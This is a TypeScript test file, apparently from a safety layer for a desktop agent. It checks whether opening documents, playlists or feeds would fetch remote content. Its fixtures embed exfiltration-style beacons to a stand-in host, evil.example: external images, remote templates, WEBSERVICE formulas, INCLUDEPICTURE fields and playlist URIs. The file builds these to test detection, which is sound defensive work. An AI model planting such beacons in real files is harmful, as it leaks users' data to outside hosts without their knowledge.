import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { fetchesWhenShown } from './fetching-files.ts'
import { findingsOf } from './policy.ts'
import { Places } from './places.ts'
import { createSurroundings } from './surroundings.ts'
import { actOf, controlOf, targetOf, windowOf } from './testing/acts.ts'
import { packed } from './testing/packed.ts'

let folder: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'deskhand-fetching-'))
})
afterAll(() => rmSync(folder, { recursive: true }))

function file(name: string, content: Buffer | string): string {
  const path = join(folder, name)
  writeFileSync(path, content)
  return path
}
const odt = (content: string) =>
  packed({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': content })
const plain =
  '<office:document xmlns:xlink="http://www.w3.org/1999/xlink"><text:p>See http://a.example</text:p></office:document>'

test.each<[string, string, Buffer | string]>([
  ['a picture of a web page', 'a.odt', odt('<draw:image xlink:href="http://evil.example/?d=1"/>')],
  ['a picture of a shared folder', 'b.odt', odt('<draw:image xlink:href="file://evil.example/x.png"/>')],
  ['a sheet of elsewhere', 'c.ods', odt("<table:table-source xlink:href = 'https://evil.example/x.ods'/>")],
  [
    'a template of elsewhere',
    'd.docx',
    packed({
      'word/_rels/settings.xml.rels':
        '<Relationship Target="https://evil.example/t.dotm" TargetMode="External"/>',
    }),
  ],
  [
    'a function that fetches',
    'e.xlsx',
    packed({ 'xl/worksheets/sheet1.xml': '<f>_xlfn.WEBSERVICE(A1)</f>' }),
  ],
  [
    'an older format',
    'f.doc',
    Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.from('INCLUDEPICTURE "http://evil.example"', 'utf16le'),
    ]),
  ],
  ['another ending', 'g.data', odt('<draw:image xlink:href="http://evil.example/"/>')],
  ['a page', 'h.html', ''],
])('a document with %s fetches: %s', (_, name, content) => {
  expect(fetchesWhenShown(file(name, content))).toBe(true)
})

test.each<[string, string, Buffer | string]>([
  ['addresses in its text only', 'a1.odt', odt(plain)],
  ['a picture of its own', 'b1.odt', odt('<draw:image xlink:href="Pictures/1.png"/>')],
  ['no parts', 'c1.zip', packed({})],
  ['a text', 'd1.txt', '<img src="http://a.example">'],
  ['nothing', 'e1.txt', ''],
])('a document with %s fetches nothing: %s', (_, name, content) => {
  expect(fetchesWhenShown(file(name, content))).toBe(false)
})

test('what can’t be looked through counts as fetching', () => {
  const cut = file('cut.odt', odt(plain))
  truncateSync(cut, 60)
  expect([fetchesWhenShown(cut), fetchesWhenShown(join(folder, 'missing.odt'))]).toEqual([true, true])
})

test.each([
  ['a list of songs', 'list.audpl', 'title=x\nuri=http://evil.example/?d=1\n', 'audacious', true],
  ['a list of videos', 'list.asx', '<asx><ref href="http://evil.example/?d=1"/></asx>', null, true],
  ['feeds', 'feeds.opml', '<opml><outline xmlUrl="https://evil.example/?d=1"/></opml>', null, true],
  ['a list called a text, in a player', 'list.txt', '#EXTM3U\nhttp://evil.example/?d=1\n', 'smplayer', true],
  ['a list in letters of two bytes', 'wide.dat', 'h\0t\0t\0p\0:\0/\0/\0e\0v\0i\0l\0.\0e\0', 'parole', true],
  ['the same in an editor', 'list.txt', '#EXTM3U\nhttp://evil.example/?d=1\n', 'mousepad', false],
  ['a named address', 'own.audpl', 'uri=http://radio.example/live\n', 'audacious', false],
  [
    'a drawing with the names of its vocabularies',
    'a.mm',
    '<map xmlns="http://a.example/map"/>',
    null,
    false,
  ],
  ['a picture', 'a.png', 'x http://ns.example/xap', null, false],
  [
    'a page called a document',
    'page.doc',
    '<link rel="stylesheet" href="http://evil.example/?d=1">',
    null,
    true,
  ],
  [
    'the same as a sheet',
    'page.xls',
    '<link rel="stylesheet" href="http://evil.example/?d=1">',
    'soffice',
    true,
  ],
  ['a document with a link', 'a.pdf', '%PDF-1.7\n<</URI(http://a.example/)>>', null, false],
  ['a text called a document', 'plain.doc', 'Dear all', null, false],
] as const)(
  '%s that the run has written asks where it is loaded from elsewhere: %s',
  (_, name, content, program, asks) => {
    const path = file(name, content)
    const places = new Places({ homes: [folder], own: [] })
    const requests = () => ['play radio.example']
    const around = createSurroundings({ places, requests, since: Date.now() - 60_000, tainted: () => true })
    const words = program === null ? { name: path } : { name: program, arguments: [path] }
    const act = actOf('launch_application', words, targetOf(null, null, { kind: 'application', text: path }))
    const found = findingsOf(act, around).findings.map(({ category }) => category)
    expect(found.includes('send')).toBe(asks)
  },
)

test('a list that the run has written is not looked at by a command that would load what it lists', () => {
  file('list.mp4', '#EXTM3U\nhttp://evil.example/?d=1\n')
  file('real.mp4', '\0\0\0 ftypisom')
  const places = new Places({ homes: [folder], own: [] })
  const around = createSurroundings({ places, since: Date.now() - 60_000, tainted: () => true })
  const sends = (command: string) =>
    findingsOf(
      actOf('execute_command', { command, cwd: folder }, targetOf(null, null)),
      around,
    ).findings.some(({ category }) => category === 'send')
  expect(['ffprobe list.mp4', 'ffprobe -v error -i list.mp4', 'ffprobe real.mp4'].map(sends)).toEqual([
    true,
    true,
    false,
  ])
})

test('a document that the run has made asks before it is opened, in whatever way', () => {
  const path = file('made.odt', odt('<draw:image xlink:href="http://evil.example/?d=1"/>'))
  const around = (since: number) =>
    createSurroundings({ places: new Places({ homes: [folder], own: [] }), since, tainted: () => true })
  const launch = actOf(
    'launch_application',
    { name: path },
    targetOf(null, null, { kind: 'application', text: path }),
  )
  const dialog = windowOf('soffice', 'Open', { kind: 'dialog', modal: true })
  const choose = actOf('click_input', {}, targetOf(dialog, controlOf('button', 'Open'), { opens: path }))
  for (const act of [launch, choose]) {
    const categories = (since: number) =>
      findingsOf(act, around(since)).findings.map(({ category }) => category)
    expect(categories(Date.now() - 60_000)).toContain('send')
    expect(categories(Date.now() + 60_000)).not.toContain('send')
  }
})
